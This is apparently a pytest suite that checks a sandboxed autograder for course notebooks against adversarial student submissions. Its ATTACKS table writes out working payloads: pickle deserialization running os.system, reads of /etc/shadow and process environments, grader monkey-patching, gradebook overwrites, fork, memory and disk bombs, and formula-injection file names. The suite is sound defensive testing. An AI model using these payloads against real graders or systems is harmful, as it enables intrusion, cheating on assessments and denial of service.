"""The autograded assignments, end to end: `make assignments`, then `make grade` on a folder of
good and bad submissions built from the student notebook (book/_assignments/autograde.py)."""

from __future__ import annotations

import csv
import hashlib
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
BOOK_CHAPTERS = sorted({p.name[:4] for p in (REPO / "book").glob("ch[0-9][0-9]_*.ipynb")})
CHAPTERS = sorted(p.stem for p in (REPO / "book" / "_assignments").glob("ch[0-9][0-9].ipynb"))

pytest.importorskip(
    "otter", reason="the grader is not installed (make test installs it: book/_assignments/requirements.txt)"
)
nbformat = pytest.importorskip("nbformat")
pytestmark = [
    pytest.mark.skipif(
        shutil.which("bwrap") is None,
        reason="bubblewrap is not installed (apt-get install bubblewrap; CI's .ci/run installs it)",
    ),
    pytest.mark.skipif(
        os.geteuid() != 0, reason="the grader builds its sandbox as root (CI runs as root; sudo make test)"
    ),
]


def make(*args: str, timeout: int = 600) -> subprocess.CompletedProcess[str]:
    """Run the README's make command from the repository root."""
    return subprocess.run(
        ["make", "--no-print-directory", *args], cwd=REPO, capture_output=True, text=True, timeout=timeout
    )


def points(test_file: Path) -> float:
    """Points a question is worth, read from otter's test file."""
    return float(sum(float(p) for p in re.findall(r"@test_case\(points=([\d.]+)", test_file.read_text())))


@pytest.fixture(scope="module")
def assignments(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every chapter's assignment, built by `make assignments` into a temporary folder.

    otter assign grades each reference solution with all of its tests, hidden ones included,
    and fails unless it earns full marks, so a successful build means every chapter's solutions
    pass their hidden tests.
    """
    out = tmp_path_factory.mktemp("assignments")
    result = make("assignments", f"ASSIGNMENTS={out}")
    assert result.returncode == 0, result.stdout + result.stderr
    return out


def test_every_chapter_has_an_assignment() -> None:
    missing = [name for name in BOOK_CHAPTERS if name not in CHAPTERS]
    assert not missing, (
        f"chapters without an autograded assignment: {', '.join(missing)}; add "
        "book/_assignments/chNN.ipynb, an otter-grader master notebook like the others (README: Grading)"
    )
    assert len(CHAPTERS) >= 10


def test_every_chapter_mentions_its_assignment() -> None:
    """A reader finds, under a chapter's exercises, that an autograded assignment exists, which
    exercises it mirrors (the ones whose metadata says `autograded`) and who hands it out."""
    for name in BOOK_CHAPTERS:
        pages = [*(REPO / "book").glob(f"{name}_*.ipynb"), *(REPO / "book" / name).glob("*.ipynb")]
        text = "".join(p.read_text() for p in pages)
        assert f"`{name}.ipynb`" in text and "make assignments" in text, name
        for label in re.findall(r":label: (\S+)\\n\",\n\s*\":class: [^\"]*autograded", text):
            assert f"{{ref}}`{label}`" in text, (name, label)


def test_masters_ask_otter_to_check_the_reference_solutions() -> None:
    for name in CHAPTERS:
        master = nbformat.read(REPO / "book" / "_assignments" / f"{name}.ipynb", as_version=4)
        config = master.cells[0].source
        assert config.startswith("# ASSIGNMENT CONFIG"), name
        assert re.search(r"^run_tests: true$", config, re.M), name


def test_every_chapter_has_two_questions_with_public_and_hidden_tests(assignments: Path) -> None:
    for name in CHAPTERS:
        tests = sorted((assignments / "autograder" / name / "tests").glob("q*.py"))
        assert len(tests) >= 2, name
        for test in tests:
            source = test.read_text()
            assert "hidden=False" in source and "hidden=True" in source, test


def test_student_notebooks_hold_public_checks_and_no_hidden_test_or_solution(
    assignments: Path,
) -> None:
    from otter.test_files import ExceptionTestFile

    for name in CHAPTERS:
        text = (assignments / "student" / f"{name}.ipynb").read_text()
        student = nbformat.reads(text, as_version=4)
        bundle = assignments / "autograder" / name
        checks = [c for c in student.cells if c.source.startswith("grader.check(")]
        assert len(checks) >= 2, name
        # as a student meets it: the title, a cell for name and ID, the folded, pinned setup
        assert student.cells[0].cell_type == "markdown" and student.cells[0].source.startswith("# Assignment")
        assert "Your student ID" in student.cells[1].source
        setup = student.cells[2]
        assert "%pip install" in setup.source and "PUBLIC_CHECKS" in setup.source
        assert setup.metadata["jupyter"]["source_hidden"] and setup.metadata["cellView"] == "form"
        assert re.search(r"git\+https://\S+@[0-9a-f]{40}", setup.source), "lessons_src is not pinned"
        prompts = [c.source for c in student.cells if c.source.startswith("### Question")]
        assert len(prompts) == len(checks) and all(" points" in p for p in prompts), name
        assert student.cells[-1].source.startswith("grader.export(")
        for test in sorted((bundle / "tests").glob("q*.py")):
            source = test.read_text()
            cases = ExceptionTestFile.from_string(source, path=str(test)).test_cases
            for case in cases:
                function = case.body.test_func.__name__
                if case.hidden:
                    assert function not in text, f"hidden test {function} is in the student {name}.ipynb"
                else:
                    assert function in text, f"public test {function} is missing from {name}.ipynb"
        solutions = nbformat.read(bundle / f"{name}.ipynb", as_version=4)
        for cell in solutions.cells:
            if "otter_assign_solution_cell" in cell.metadata.get("tags", []):
                body = cell.source.split("# BEGIN SOLUTION")[1].split("# END SOLUTION")[0]
                line = max(body.strip().splitlines(), key=len)
                assert line.strip() not in text, f"a solution line of {name} is in the student notebook"
    student_dir = assignments / "student"
    shipped = {p.relative_to(student_dir).as_posix() for p in student_dir.rglob("*")}
    assert shipped == {f"{name}.ipynb" for name in CHAPTERS}


# --------------------------------------------------------------------------------------------
# grading a hostile class: honest submissions and the attacks a motivated student would write
# --------------------------------------------------------------------------------------------

# a hanging cell or call is stopped after this many seconds, and the loops of honest_loops,
# hanging_calls and fork_bomb burn a core that long (five times in a run); the slowest honest cell,
# the setup cell importing otter, takes 1 to 2 s on a loaded machine, and CI's is loaded
CELL_TIMEOUT = 8
MEMORY_MIB = 512  # the default is 2048; a smaller limit is reached within the cell timeout
ATTACK_MARKER = "DESCENT-ATTACK-WAS-HERE"

# Each attack defines both functions of assignment 1 (count_steps, largest_shrinking_step) with
# no correct answer, and tries to get points, or to get out, another way. Placeholders in braces
# are filled in by `attack_sources`.
ATTACKS: dict[str, str] = {
    # otter's logging server unpickled what reached it over loopback: a grader that listens
    # anywhere the sandbox can reach is an escape. A bait server like it listens on the host.
    "loopback": """
import pickle, socket, os

class Payload:
    def __reduce__(self):
        return (os.system, ("touch {marker_path}",))

reached = []
for host in ["127.0.0.1", "{host_ip}"]:
    for port in [{bait_port}, *range(1, 1024)]:
        try:
            with socket.create_connection((host, port), timeout=0.05) as s:
                s.sendall(pickle.dumps(Payload()))
                reached.append((host, port))
        except OSError:
            pass
urllib_error = None
try:
    import urllib.request
    urllib.request.urlopen("http://pypi.org", timeout=2)
except Exception as error:
    urllib_error = error
def count_steps(lr, x0, tol):
    return -1
def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return -1.0
if not reached:
    raise ConnectionRefusedError(f"no grader server reachable; the web: {{urllib_error}}")
""",
    # read the expected value out of the test's frame, or find the test among live objects
    "frames": """
import gc, inspect

def steal(names=("expected", "ratio", "best")):
    frame = inspect.currentframe()
    while frame is not None:
        for name in names:
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    for obj in gc.get_objects():
        if inspect.isfunction(obj) and obj.__name__.startswith("test_"):
            return obj
    return None

def count_steps(lr, x0, tol):
    return steal()

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return steal()
""",
    # an answer that equals everything
    "always_equal": """
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __abs__(self): return self
    def __sub__(self, other): return self
    def __rsub__(self, other): return self
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.zeros(())

class SneakyFloat(float):
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    __hash__ = float.__hash__

def count_steps(lr, x0, tol):
    return AlwaysEqual()

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return SneakyFloat(0.123)
""",
    # make the checks pass by patching otter and the comparisons they use
    "patched_checks": """
import builtins, numpy as np, otter
from otter.test_files import abstract_test, exception_test

abstract_test.TestFile.score = property(lambda self: 100)
abstract_test.TestFile.grade = property(lambda self: 1.0)
abstract_test.TestFile.passed_all = property(lambda self: True)
exception_test.ExceptionTestFile.run = lambda self, env: None
otter.Notebook.check = lambda self, *a, **k: None
np.isclose = lambda *a, **k: np.True_
np.allclose = lambda *a, **k: True
builtins.abs = lambda x: 0.0
builtins.isinstance = lambda obj, cls: True
builtins.AssertionError = type("Harmless", (Exception,), {{}})

def count_steps(lr, x0, tol):
    return 0

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return 0.0
""",
    # read the hidden tests, the reference solutions, the grader's environment and secrets
    "read_secrets": """
import glob, os, pathlib

found = {{}}
for pattern in ["{repo}/book/_assignments/*.ipynb", "{assignments}/autograder/**/*.py",
                "/tmp/descent-*/**/*", "/proc/*/environ", "/proc/*/cmdline", "/etc/shadow",
                "/root/*", "/work/*/*", "/*/tests/q1.py"]:
    for path in glob.glob(pattern, recursive=True)[:200]:
        try:
            text = pathlib.Path(path).read_text(errors="replace")
        except OSError:
            continue
        if "hidden" in text or "root:" in text or "test_case" in text:
            found[path] = text
solution = pathlib.Path("{repo}/book/_assignments/ch01.ipynb").read_text()

def count_steps(lr, x0, tol):
    return len(found)

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return float(len(solution))
""",
    # change the other submissions and the gradebook, leave files behind
    "write_outside": """
import pathlib

def count_steps(lr, x0, tol):
    return 1

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return 0.5

for target in ["{repo}/{marker}", "{submissions}/honest_correct.ipynb", "{grades}", "/tmp/{marker}",
               "{submissions}/{marker}.ipynb", "/root/{marker}"]:
    pathlib.Path(target).write_text("{marker}")
""",
    "memory_bomb": """
def count_steps(lr, x0, tol):
    return 2

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return 2.0

hoard = []
while True:
    hoard.append(b"x" * (64 << 20))
""",
    "disk_bomb": """
def count_steps(lr, x0, tol):
    return 3

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return 3.0

with open("/tmp/one-big-file", "wb") as f:
    try:
        f.write(b"x" * (200 << 20))
    except OSError:
        pass
for i in range(100_000):
    with open(f"/tmp/filler-{{i}}", "wb") as f:
        f.write(b"x" * (16 << 20))
""",
    "output_bomb": """
def count_steps(lr, x0, tol):
    return 4

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return 4.0

line = "x" * (1 << 20)
for _ in range(1024):  # 1 GiB of printed output
    print(line)
""",
    "fork_bomb": """
import os

def count_steps(lr, x0, tol):
    return 5

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return 5.0

while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "stubborn_loop": """
import signal, time

for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)

def count_steps(lr, x0, tol):
    return 6

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return 6.0

while True:
    try:
        time.sleep(0.1)
    except BaseException:
        pass
""",
    # functions that only hang when the grader calls them
    "hanging_calls": """
def count_steps(lr, x0, tol):
    while True:
        try:
            pass
        except BaseException:
            pass

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    import os
    os._exit(0)
""",
    # arrays that broadcast to nothing, so that an all() over them is vacuously true
    "empty_arrays": """
import numpy as np

def count_steps(lr, x0, tol):
    return np.empty((0,), dtype=int)

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return np.empty((0, 1))
""",
    # talk to the grader's pipes directly: forged replies and garbage frames
    "forged_frames": """
import json, os, struct, sys

replies = int(sys.argv[2])
def frame(obj):
    body = json.dumps(obj).encode()
    return struct.pack(">I", len(body)) + body
os.write(replies, frame({{"kind": "value", "value": 69}}) * 3 + frame({{"event": "ready"}}))
os.write(replies, struct.pack(">I", 2**31) + b"{{")

def count_steps(lr, x0, tol):
    return None

def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
    return None
""",
}

# what each attack's row must say, in its note
ATTACK_NOTES = {
    "loopback": "ConnectionRefusedError",
    "frames": "count_steps(...) gave an object of type function",
    "always_equal": "an object of type AlwaysEqual",
    "patched_checks": "left out: it ended the process",
    "read_secrets": "No such file or directory",
    # a clone below /tmp leaves a writable mount point there (in the sandbox's own /tmp), so the
    # first write that fails may also fail for want of the folder
    "write_outside": ("Read-only file system", "No such file or directory"),
    "memory_bomb": f"ran out of its {MEMORY_MIB} MiB of memory",
    "disk_bomb": "No space left on device",
    "output_bomb": "printed 1024 MiB; the grader kept the first 4 MiB",
    "fork_bomb": "hit the limit of 64 processes",
    "stubborn_loop": f"ran past {CELL_TIMEOUT} s",
    "hanging_calls": f"the call ran past {CELL_TIMEOUT} s",
    "empty_arrays": "q1 test_count_steps_public",
    "forged_frames": "broke the grader's protocol",
}


def host_ip() -> str:
    """An address of this machine other than loopback (or loopback if it has none)."""
    import socket

    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("10.255.255.255", 1))
            return s.getsockname()[0]
    except OSError:
        return "127.0.0.1"


class BaitServer:
    """A server on the host that unpickles whatever reaches it, as otter's logging server did."""

    def __init__(self) -> None:
        import socketserver
        import threading

        received = self.received = []

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                received.append(self.request.recv(65536))

        self.server = socketserver.ThreadingTCPServer(("0.0.0.0", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def answers(assignments: Path) -> list[str]:
    solution = nbformat.read(assignments / "autograder" / "ch01" / "ch01.ipynb", as_version=4)
    return [c.source for c in solution.cells if "otter_assign_solution_cell" in c.metadata.get("tags", [])]


def notebook(
    assignments: Path, q1: str | None, q2: str | None, label: str | None = "ch01", before: str | None = None
) -> object:
    """The student notebook of assignment 1 with these answers (None leaves the `...`)."""
    nb = nbformat.read(assignments / "student" / "ch01.ipynb", as_version=4)
    cells = [
        c for c in nb.cells if c.cell_type == "code" and "otter_answer_cell" in c.metadata.get("tags", [])
    ]
    for cell, answer in zip(cells, (q1, q2), strict=True):
        if answer is not None:
            cell.source = answer
    if before is not None:
        nb.cells.insert(nb.cells.index(cells[0]), nbformat.v4.new_code_cell(before))
    if label is None:
        del nb.metadata["otter"]
    else:
        nb.metadata["otter"]["assignment_name"] = label
    return nb


def honest_submissions(assignments: Path, folder: Path) -> None:
    """Right, partly wrong and broken honest work, each file named honest_*."""
    import zipfile

    q1, q2 = answers(assignments)
    folder.mkdir(parents=True)
    nbformat.write(notebook(assignments, q1, q2), folder / "honest_correct.ipynb")
    assert "lrs[end < start].max()" in q2
    nbformat.write(
        notebook(assignments, q1, q2.replace("lrs[end < start].max()", "lrs[end < start].min()")),
        folder / "honest_wrong_q2.ipynb",
    )
    nbformat.write(notebook(assignments, q1, None), folder / "honest_only_q1.ipynb")
    broken = notebook(assignments, q1, q2)
    first_code = next(c for c in broken.cells if c.cell_type == "code")
    first_code.source = "raise RuntimeError('a broken first cell')\n" + first_code.source
    nbformat.write(broken, folder / "honest_raises.ipynb")
    nbformat.write(
        notebook(assignments, q1.replace("# BEGIN SOLUTION", "while True:\n        pass"), q2),
        folder / "honest_loops.ipynb",
    )
    nbformat.write(notebook(assignments, q1, q2, label=None), folder / "honest_no_label.ipynb")
    with zipfile.ZipFile(folder / "honest_export.zip", "w") as archive:  # what otter's export makes
        archive.writestr("ch01.ipynb", nbformat.writes(notebook(assignments, q1, q2)))


def attack_submissions(assignments: Path, folder: Path, fill: dict[str, str]) -> None:
    """Every attack in ATTACKS, and the files a careless or hostile class hands in."""
    for name, source in ATTACKS.items():
        code = source.format(**fill)
        nbformat.write(
            notebook(assignments, code, "# the answer is in the cell above\n"),
            folder / f"attack_{name}.ipynb",
        )
    formula = '=HYPERLINK("https:\\example.com?"&A1,"open me")'
    nbformat.write(notebook(assignments, None, None), folder / f"{formula}.ipynb")
    nbformat.write(notebook(assignments, None, None), folder / "@SUM(1+1)cmd.ipynb")
    nbformat.write(notebook(assignments, None, None, label="ch03"), folder / "attack_wrong_label.ipynb")
    (folder / "attack_empty.ipynb").write_text("")
    (folder / "attack_corrupt.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "x = ')
    (folder / "attack_notes.txt").write_text("not a notebook")
    (folder / "attack_link.ipynb").symlink_to("/etc/shadow")
    (folder / "attack_folder").mkdir()


def tree_digest(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def grade_folder(folder: Path, assignments: Path, grades: Path) -> dict[str, dict[str, str]]:
    result = make(
        "grade",
        f"SUBMISSIONS={folder}",
        f"ASSIGNMENTS={assignments}",
        f"GRADES={grades}",
        f"CELL_TIMEOUT={CELL_TIMEOUT}",
        f"MEMORY_MIB={MEMORY_MIB}",
        timeout=1800,
    )
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    with grades.open(newline="", encoding="utf-8") as f:
        return {row["file"]: row for row in csv.DictReader(f)}


@pytest.fixture(scope="module")
def hostile_class(assignments: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """The honest submissions graded alone, then graded in one folder with every attack."""
    root = tmp_path_factory.mktemp("hostile")
    honest = root / "honest"
    honest_submissions(assignments, honest)
    alone = grade_folder(honest, assignments, root / "honest.csv")

    mixed = root / "class"
    shutil.copytree(honest, mixed)
    grades = root / "class.csv"
    bait = BaitServer()
    fill = {
        "repo": str(REPO),
        "assignments": str(assignments),
        "submissions": str(mixed),
        "grades": str(grades),
        "marker": ATTACK_MARKER,
        "marker_path": str(root / ATTACK_MARKER),
        "bait_port": str(bait.port),
        "host_ip": host_ip(),
    }
    attack_submissions(assignments, mixed, fill)
    guarded = {
        "submissions": mixed,
        "assignments": assignments,
        "book": REPO / "book",
        "lessons_src": REPO / "lessons_src",
    }
    before = {name: tree_digest(path) for name, path in guarded.items()}
    try:
        rows = grade_folder(mixed, assignments, grades)
    finally:
        bait.close()
    after = {name: tree_digest(path) for name, path in guarded.items()}
    return {
        "alone": alone,
        "rows": rows,
        "before": before,
        "after": after,
        "bait": bait.received,
        "root": root,
        "grades": grades,
        "fill": fill,
        "entries": sorted(p.name for p in mixed.iterdir()),
    }


def test_honest_work_gets_the_predicted_score(hostile_class: dict[str, object], assignments: Path) -> None:
    rows = hostile_class["alone"]
    possible = {
        t.stem: points(t) for t in sorted((assignments / "autograder" / "ch01" / "tests").glob("q*.py"))
    }
    full = [possible["q1"], possible["q2"]]

    def scores(name: str) -> list[float]:
        return [float(rows[name]["q1"]), float(rows[name]["q2"])]

    assert scores("honest_correct.ipynb") == full and rows["honest_correct.ipynb"]["note"] == ""
    assert scores("honest_export.zip") == full
    assert scores("honest_wrong_q2.ipynb") == [possible["q1"], 0.0]
    assert scores("honest_only_q1.ipynb") == [possible["q1"], 0.0]
    assert (
        scores("honest_raises.ipynb") == full
        and "RuntimeError: a broken first cell" in rows["honest_raises.ipynb"]["note"]
    )
    assert scores("honest_loops.ipynb") == [0.0, possible["q2"]]
    assert f"left out: it ran past {CELL_TIMEOUT} s" in rows["honest_loops.ipynb"]["note"]
    assert scores("honest_no_label.ipynb") == full
    assert "names no assignment; graded as ch01" in rows["honest_no_label.ipynb"]["note"]
    for row in rows.values():
        assert float(row["total"]) == float(row["q1"]) + float(row["q2"])
        assert float(row["possible"]) == sum(full)


def test_attacks_score_zero_and_are_named(hostile_class: dict[str, object]) -> None:
    rows = hostile_class["rows"]
    for name, words in ATTACK_NOTES.items():
        row = rows[f"attack_{name}.ipynb"]
        assert float(row["total"]) == 0.0, (name, row)
        alternatives = (words,) if isinstance(words, str) else words
        assert any(w in row["note"] for w in alternatives), (name, row["note"])
    assert hostile_class["bait"] == [], "a submission reached a server on the grader's machine"


def test_attacks_leave_the_honest_rows_as_they_were(hostile_class: dict[str, object]) -> None:
    rows, alone = hostile_class["rows"], hostile_class["alone"]
    for file, row in alone.items():
        assert rows[file] == row, file


def test_one_row_per_file_whatever_the_file(hostile_class: dict[str, object]) -> None:
    rows = hostile_class["rows"]
    unescaped = sorted(f[1:] if f[:2] in ("'=", "'@") else f for f in rows)
    assert unescaped == hostile_class["entries"]
    assert "empty file" in rows["attack_empty.ipynb"]["note"]
    assert "not a readable notebook" in rows["attack_corrupt.ipynb"]["note"]
    assert "not a notebook (.txt)" in rows["attack_notes.txt"]["note"]
    assert "symbolic link" in rows["attack_link.ipynb"]["note"]
    assert "not a file" in rows["attack_folder"]["note"]
    assert "this is the ch03 notebook; graded as ch01" in rows["attack_wrong_label.ipynb"]["note"]


def test_formula_file_names_are_escaped_in_the_gradebook(hostile_class: dict[str, object]) -> None:
    text = Path(hostile_class["grades"]).read_text(encoding="utf-8")
    with Path(hostile_class["grades"]).open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], (
        "a cell a spreadsheet would run"
    )
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)cmd" in text


def test_no_file_outside_the_sandbox_changes(hostile_class: dict[str, object]) -> None:
    assert hostile_class["after"] == hostile_class["before"]
    fill = hostile_class["fill"]
    for place in (
        REPO / ATTACK_MARKER,
        Path("/tmp") / ATTACK_MARKER,
        Path("/root") / ATTACK_MARKER,
        Path(fill["marker_path"]),
        Path(fill["submissions"]) / f"{ATTACK_MARKER}.ipynb",
    ):
        assert not place.exists(), f"a submission wrote {place}"


def test_feedback_names_every_test_and_never_a_hidden_value(
    hostile_class: dict[str, object], assignments: Path
) -> None:
    feedback = Path(hostile_class["grades"]).parent / "class-feedback"
    files = sorted(feedback.glob("*.md"))
    assert len(files) == len(hostile_class["rows"])
    correct = (feedback / "honest_correct.ipynb.md").read_text()
    assert "**6 of 6 points**" in correct and "test_count_steps_hidden (hidden)" in correct
    wrong = (feedback / "honest_wrong_q2.ipynb.md").read_text()
    assert "| test_sweep_hidden (hidden) | 0 of 2 | failed |" in wrong
    hidden_source = "".join(
        p.read_text() for p in (assignments / "autograder" / "ch01" / "tests").glob("q*.py")
    )
    hidden_values = set(re.findall(r"\b\d+\.\d+\b", hidden_source.split("hidden=True", 1)[1]))
    public_text = (assignments / "student" / "ch01.ipynb").read_text()
    for file in files:
        text = file.read_text()
        for value in hidden_values - set(re.findall(r"\b\d+\.\d+\b", public_text)):
            assert value not in text, (file.name, value)
    summary = (Path(hostile_class["grades"]).parent / "class-summary.md").read_text()
    assert "| score | q1 | q2 | total |" in summary and "| mean |" in summary


def test_grade_needs_a_folder(assignments: Path, tmp_path: Path) -> None:
    result = make("grade", f"ASSIGNMENTS={assignments}")
    assert result.returncode != 0 and "usage: make grade SUBMISSIONS=" in result.stdout + result.stderr
    missing = make("grade", f"SUBMISSIONS={tmp_path / 'nowhere'}", f"ASSIGNMENTS={assignments}")
    assert missing.returncode != 0 and "must be a folder" in missing.stdout + missing.stderr


def test_every_reference_solution_gets_full_marks_through_the_sandbox(
    assignments: Path, tmp_path: Path
) -> None:
    """The boundary carries every test's inputs in and every answer back, on all assignments.

    `grade` runs in this process, one chapter after the other, so that its fresh per-submission
    processes fork from one server that imported the grader once (the command line's own start,
    tested by `make grade` above, would cost more than grading a reference does)."""
    sys.path.insert(0, str(REPO / "book" / "_assignments"))
    import autograde

    wrong = {}
    for name in CHAPTERS:
        folder = tmp_path / name
        folder.mkdir()
        shutil.copy(assignments / "autograder" / name / f"{name}.ipynb", folder / "reference.ipynb")
        grades = tmp_path / f"{name}.csv"
        autograde.grade(folder, assignments, grades)
        with grades.open() as f:
            (row,) = csv.DictReader(f)
        if not (row["total"] == row["possible"] and row["note"] == ""):
            wrong[name] = row
    assert not wrong, wrong


def test_the_snooping_submission_reads_the_hidden_tests_without_the_sandbox(
    assignments: Path,
    tmp_path: Path,
) -> None:
    """The read_secrets attack is real: graded with --no-sandbox, it finds the reference solution."""
    folder = tmp_path / "snoop"
    folder.mkdir()
    fill = {"repo": str(REPO), "assignments": str(assignments)}
    code = ATTACKS["read_secrets"].format(**fill)
    nbformat.write(notebook(assignments, code, "# above\n"), folder / "snoop.ipynb")
    grades = tmp_path / "grades.csv"
    python = REPO / ".venv" / "bin" / "python"
    result = subprocess.run(
        [
            str(python),
            str(REPO / "book" / "_assignments" / "autograde.py"),
            "grade",
            str(folder),
            "--assignments",
            str(assignments),
            "--out",
            str(grades),
            "--no-sandbox",
            "--cell-timeout",
            "120",
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    with grades.open() as f:
        (row,) = csv.DictReader(f)
    assert "No such file or directory" not in row["note"], row["note"]


def test_public_checks_run_in_the_student_notebook_alone(assignments: Path, tmp_path: Path) -> None:
    """A student who has only the notebook gets instant feedback from grader.check."""
    from nbclient import NotebookClient

    q1, q2 = answers(assignments)
    feedback = {}
    for name, nb in (
        ("correct", notebook(assignments, q1, q2)),
        ("wrong", notebook(assignments, q1, q2.replace("end < start].max()", "end < start].min()"))),
    ):
        folder = tmp_path / name
        folder.mkdir()
        client = NotebookClient(
            nb, timeout=120, allow_errors=True, resources={"metadata": {"path": str(folder)}}
        )
        client.execute()
        for cell in nb.cells:
            if cell.source.startswith("grader.check("):
                shown = [o.get("data", {}).get("text/plain", "") for o in cell.outputs]
                feedback[name, cell.source] = "".join(shown)
    assert "q1 results: All test cases passed!" in feedback["correct", 'grader.check("q1")']
    assert "q2 results: All test cases passed!" in feedback["correct", 'grader.check("q2")']
    assert "Test case failed" in feedback["wrong", 'grader.check("q2")']
    assert "hidden" not in "".join(feedback.values()).lower()


FACTS_CELL = '''
import json, os, socket

def facts():
    found = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(), "pids": [], "environ": {}}
    for name in os.listdir("/proc"):
        if name.isdigit():
            found["pids"].append(int(name))
            try:
                found["environ"][name] = open(f"/proc/{name}/environ", "rb").read().decode(errors="replace")
            except OSError:
                pass
    found["interfaces"] = sorted(name for _, name in socket.if_nameindex())
    found["shadow"] = os.path.exists("/etc/shadow")
    found["root_entries"] = sorted(os.listdir("/"))
    stat = os.statvfs("/tmp")
    found["tmp_bytes"] = stat.f_blocks * stat.f_frsize
    for path in ("/", "/usr/lib", "/etc"):
        try:
            open(os.path.join(path, "descent-probe"), "w").close()
            found.setdefault("writable", []).append(path)
        except OSError:
            pass
    try:
        socket.create_connection(("1.1.1.1", 53), timeout=1)
        found["internet"] = True
    except OSError:
        found["internet"] = False
    return found
'''


def test_the_sandbox_as_the_student_sees_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What the boundary promises, asked from inside: who it runs as, what it sees and reaches."""
    sys.path.insert(0, str(REPO / "book" / "_assignments"))
    import grading
    from sandbox import Limits, Session

    monkeypatch.setenv("DESCENT_GRADER_SECRET", "do-not-show-me")
    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_code_cell(FACTS_CELL))
    path = tmp_path / "facts.ipynb"
    nbformat.write(nb, path)
    with Session(path, Limits(cell_timeout=30)) as session:
        facts = grading.RemoteNamespace(session).get("facts")()
    assert (facts["uid"], facts["gid"], facts["groups"]) == (65534, 65534, [])
    assert facts["interfaces"] == ["lo"] and facts["internet"] is False
    assert len(facts["pids"]) <= 4, facts["pids"]  # bubblewrap's init and the student's process
    assert not any("do-not-show-me" in env for env in facts["environ"].values())
    # at the top of its file system: the system, its own folders, and the first folder of each
    # path of the Python installation and lessons_src (mounted read-only below it)
    from sandbox import readable_paths

    allowed = {"usr", "bin", "sbin", "lib", "lib64", "lib32", "etc", "tmp", "submission", "grader"}
    allowed |= {"proc", "dev"}
    allowed |= {path.parts[1] for path in readable_paths()}
    assert facts["shadow"] is False and set(facts["root_entries"]) <= allowed, facts["root_entries"]
    assert facts.get("writable") is None
    assert facts["tmp_bytes"] <= Limits().disk
